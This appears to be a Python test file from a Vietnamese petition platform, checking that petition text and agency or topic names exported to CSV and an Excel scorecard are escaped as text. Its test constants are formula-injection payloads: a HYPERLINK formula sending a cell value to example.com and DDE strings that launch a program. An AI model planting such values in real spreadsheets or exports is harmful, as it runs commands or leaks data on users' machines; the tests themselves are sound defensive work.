"""Text typed by people (a petition's title and body) or entered as data (agency and topic
names) lands in open data CSV and the scorecard workbook as text, never as a formula."""

import csv
import io

from openpyxl import load_workbook

from nghedan.agencies.models import Agency
from nghedan.lib import clock
from nghedan.petitions.actions import answer_submit, petition_accept
from nghedan.petitions.models import Topic
from nghedan.scorecards.opendata import csv_chunks, indicators_rows, petitions_rows
from nghedan.scorecards.periods import Period
from nghedan.scorecards.reports import report_xlsx
from nghedan.scorecards.tests.test_reports import YEAR, hanoi, year_2025
from nghedan.test import submit

TITLE = '=HYPERLINK("http://example.com/?"&A1,"Xem")'
BODY = "@SUM(1+1)*cmd|' /C calc'!A0 cống tắc nhiều ngày ở ngõ Núi Trúc"
AGENCY = "=cmd|' /C calc'!A0"
TOPIC = "+SUM(1,1) Giao thông"


def _csv(rows) -> list[dict]:
    text = "".join(csv_chunks(rows)).lstrip("\ufeff")
    return list(csv.DictReader(io.StringIO(text)))


def test_a_title_and_body_typed_as_formulas_stay_text_in_open_data_csv(world):
    # Given published feedback whose title and body start like formulas
    petition = submit(world, title=TITLE, body=BODY, publish_consent=True).petition
    petition_accept(acting_user=world.officer_a, petition=petition)
    answer_submit(acting_user=world.leader_a, petition=petition, body="Đã thông cống.")

    # When the year's petitions are exported as CSV and read back
    [record] = _csv(petitions_rows(Period.year(clock.today().year)))

    # Then both read as the text typed, behind a quote
    assert record["public_title"] == "'" + TITLE
    assert record["public_body"] == "'" + BODY
    # And numbers and codes are untouched
    assert record["kind"] == "feedback" and record["working_days"] == "0"


def test_a_unit_name_that_starts_like_a_formula_stays_text_in_indicator_csv(world):
    Agency.objects.filter(pk=world.agency_b.pk).update(name=AGENCY)

    rows = _csv(indicators_rows(Period.year(clock.today().year), level="agency"))

    names = [row["name"] for row in rows]
    assert "'" + AGENCY in names and AGENCY not in names


def test_names_that_start_like_formulas_stay_text_in_the_scorecard_workbook(world):
    # Given a year of petitions, an agency and a topic whose names start like formulas
    Agency.objects.filter(pk=world.hanoi_ubnd.pk).update(name=AGENCY)
    Topic.objects.filter(code="giao-thong-ha-tang").update(name=TOPIC)
    year_2025(world)

    # When the province's workbook is made and read back
    book = load_workbook(io.BytesIO(report_xlsx(hanoi(world), YEAR)))

    # Then no cell is a formula, and the names read as typed, behind a quote
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = {cell.value for cell in cells}
    assert "'" + AGENCY in values and "'" + TOPIC in values
    assert AGENCY not in values and TOPIC not in values
